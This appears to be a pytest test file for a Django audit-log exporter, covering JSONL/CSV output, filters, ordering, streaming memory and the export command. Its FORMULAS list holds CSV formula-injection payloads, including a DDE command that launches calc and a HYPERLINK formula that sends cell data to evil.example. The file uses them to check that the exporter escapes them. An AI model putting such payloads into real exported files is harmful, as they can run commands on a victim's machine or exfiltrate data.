from __future__ import annotations

import csv
import io
import itertools
import json
import resource
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.db import connection, transaction

from audit.evidence.export import CHUNK_BYTES, export
from audit.ground.actors import SYSTEM
from audit.log.read import Filters
from audit.log.record import record
from audit.models import Event
from tests.audit.conftest import minutes
from tests.sealed import seal_all, sealed_bodies

ROOT = Path(__file__).resolve().parents[3]
EVERYTHING = Filters()
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")
FORMULAS = [
    start + rest
    for start, rest in itertools.product(
        DANGEROUS,
        [
            "cmd|' /C calc'!A0",
            'HYPERLINK("http://evil.example?x="&A1,"see")',
            "1+1",
            "SUM(1;1)",
            '"',
            ",",
            "\n=1",
            "",
        ],
    )
]


def exported(format: str, filters: Filters = EVERYTHING) -> bytes:
    seal_all()
    return b"".join(export(format, filters, actor=SYSTEM))


def cells(text: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.decode(), newline="")))


def test_a_line_of_jsonl_is_the_exact_body(write: Any) -> None:
    write(name='back\\slash "quote" \u0001 \x7f \u2028 🙂 , tab\t', data={"text": "\\n is not a newline\n"})
    write(name="\\.")
    for n in range(300):
        write("a.done", at=minutes(n))

    lines = exported("jsonl")

    bodies = sealed_bodies()
    assert len(bodies) == 303, "with the sealer's own word of its key"
    assert lines == "".join(f"{body}\n" for body in bodies).encode()


def test_events_that_were_committed_late_come_in_the_order_of_their_places(write: Any) -> None:
    numbers = [write("a.done", data={"number": number}) for number in range(600)]
    with connection.cursor() as cursor:
        cursor.execute(
            """INSERT INTO audit_leaf (leaf_index, event_id, hash)
               SELECT place - 1, id, sha256('') FROM unnest(%s::bigint[]) WITH ORDINALITY one(id, place)""",
            [[*numbers[300:], *numbers[:300]]],
        )

    asked = Filters(type="a.done")
    lines = b"".join(export("jsonl", asked, actor=SYSTEM)).splitlines()
    rows = cells(b"".join(export("csv", asked, actor=SYSTEM)))
    in_places = [*range(300, 600), *range(300)]
    assert [json.loads(line)["data"]["number"] for line in lines] == in_places
    assert [json.loads(row["data"])["number"] for row in rows] == in_places


def test_the_same_question_gets_the_same_bytes(write: Any) -> None:
    for n in range(5):
        write("a.done", at=minutes(n))
    asked = Filters.read({"until": "2026-01-02"})
    assert exported("jsonl", asked) == exported("jsonl", asked) != b""


def test_an_export_is_itself_an_event_before_anything_is_read(db: None, write: Any) -> None:
    export("csv", Filters.read({"type": "proposal.", "since": "2026-01-01"}), actor=SYSTEM)

    body = json.loads(Event.objects.get(type="events.exported").body)
    assert body["data"] == {
        "format": "csv",
        "filters": {"type": "proposal.", "since": "2026-01-01T00:00:00+00:00"},
        "size": 0,
    }


@pytest.mark.parametrize("format", ["jsonl", "csv"])
def test_an_export_holds_what_its_filters_let_through(write: Any, format: str) -> None:
    for n in range(400):
        write("a.done" if n % 7 == 0 else "b.done", at=minutes(n))
    filters = Filters.read({"type": "a.", "since": "2026-01-01T01:00:00Z", "until": "2026-01-01T05:00:00Z"})

    text = exported(format, filters)

    chosen = Event.objects.filter(type="a.done", at__gte=minutes(60), at__lt=minutes(300)).order_by("pk")
    expected = [json.loads(event.body)["id"] for event in chosen]
    rows = cells(text) if format == "csv" else [json.loads(line) for line in text.splitlines()]
    assert [row["id"] for row in rows] == expected
    assert len(expected) == 34


@pytest.mark.parametrize("format", ["jsonl", "csv"])
def test_an_empty_export_is_empty(db: None, format: str) -> None:
    filters = Filters.read({"until": "2000-01-01T00:00:00Z"})
    header = b"leaf_index,id,at,type,actor,actor_name,proposal,data\r\n"
    assert exported(format, filters) == (header if format == "csv" else b"")


def test_no_cell_begins_a_formula(write: Any) -> None:
    for formula in FORMULAS:
        write(name=formula)

    rows = cells(exported("csv", Filters(type="proposal.submitted")))

    assert [row["actor_name"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert not [cell for row in rows for cell in row.values() if cell.startswith(DANGEROUS)]


def test_honest_cells_stay_as_they_are(write: Any) -> None:
    names = ["Ana", "O'Neil", "a=b", "1-2", " =1", 'say "hi", twice', "two\r\nlines", "", "ö"]
    for name in names:
        write(name=name, data={"text": "x,y"}, proposal="01a2041e-0000-7000-8000-000000000001")

    text = exported("csv", Filters(type="proposal.submitted"))

    rows = cells(text)
    bodies = [
        json.loads(event.body) for event in Event.objects.filter(type="proposal.submitted").order_by("pk")
    ]
    assert [row["actor_name"] for row in rows] == names
    assert [(row["id"], row["at"], row["proposal"]) for row in rows] == [
        (body["id"], body["at"], body["proposal"]) for body in bodies
    ]
    assert [json.loads(row["data"]) for row in rows] == [body["data"] for body in bodies]
    assert text.replace(b"two\r\nlines", b"").count(b"\r\n") == text.replace(b"two\r\nlines", b"").count(
        b"\n"
    )


@pytest.mark.parametrize(("format", "count"), [("jsonl", 200_000), ("csv", 60_000)])
def test_memory_stays_flat_however_long_the_log_is(db: None, format: str, count: int) -> None:
    with connection.cursor() as cursor:
        cursor.execute(f"""
            INSERT INTO audit_event (body)
            SELECT '{{"actor":{{"id":"1","name":"bot","type":"agent"}},"at":"2026-01-01T00:00:00.000000Z",'
                   '"data":{{"text":"' || repeat('x', 300) || '"}},"id":"' || gen_random_uuid() ||
                   '","type":"a.done","v":1}}' FROM generate_series(1, {count})""")
    seal_all()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()

    lines = size = largest = 0
    for piece in export(format, EVERYTHING, actor=SYSTEM):
        lines += piece.count(b"\n")
        size += len(piece)
        largest = max(largest, len(piece))

    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert lines == count + 1 + (format == "csv")
    assert size > count * 400
    assert largest < 3 * CHUNK_BYTES
    assert peak < 4_000_000
    assert grown < 16_000  # KiB


def test_whoever_stops_reading_ends_the_query_and_gives_the_connection_back(transactional_db: None) -> None:
    with transaction.atomic():
        for _ in range(2_000):
            record("execution.refused", actor=SYSTEM, data={"execution": "", "reason": "x" * 500})
    seal_all()
    pieces = export("jsonl", EVERYTHING, actor=SYSTEM)
    next(pieces)
    assert _copies() == 1

    pieces.close()

    assert _gone_soon()


def _gone_soon() -> bool:
    """PostgreSQL ends a closed connection's process a moment later."""
    until = time.monotonic() + 10
    while _copies() and time.monotonic() < until:
        time.sleep(0.05)
    return not _copies()


def _copies() -> int:
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
            " AND pid <> pg_backend_pid() AND query LIKE '%%COPY (SELECT%%'"
        )
        return int(cursor.fetchone()[0])


def test_an_export_that_nobody_reads_takes_no_connection(transactional_db: None) -> None:
    export("jsonl", EVERYTHING, actor=SYSTEM)
    assert _copies() == 0


# --- The command ----------------------------------------------------------------------------------


def test_the_command_writes_the_file_for_its_owner_alone(write: Any, tmp_path: Path) -> None:
    write(at=minutes(0))
    seal_all()
    file = tmp_path / "log.jsonl"

    call_command("export_audit", format="jsonl", output=str(file), until="2026-01-02")

    assert file.read_text() == Event.objects.order_by("pk")[0].body + "\n"
    assert file.stat().st_mode & 0o777 == 0o600


def test_the_command_refuses_in_one_line(db: None, tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="since must be a time") as refused:
        call_command("export_audit", format="jsonl", since="nonsense")
    assert "\n" not in str(refused.value)
    with pytest.raises(CommandError, match="cannot be written"):
        call_command("export_audit", format="jsonl", output=str(tmp_path / "no" / "file"))


def test_the_command_streams_to_standard_output_and_survives_a_reader_that_leaves(
    transactional_db: None,
) -> None:
    with transaction.atomic():
        for _ in range(2_000):
            record("execution.refused", actor=SYSTEM, data={"execution": "", "reason": "x" * 500})
    seal_all()
    command = [sys.executable, "manage.py", "export_audit", "--format", "jsonl"]

    whole = subprocess.run(command, cwd=ROOT, capture_output=True, check=True)
    cut = subprocess.run(
        f"{' '.join(command)} | head -n 1", shell=True, cwd=ROOT, capture_output=True, check=True
    )

    assert whole.stdout.count(b"\n") == 2_001
    assert (cut.stdout, cut.stderr) == (whole.stdout.splitlines(keepends=True)[0], b"")
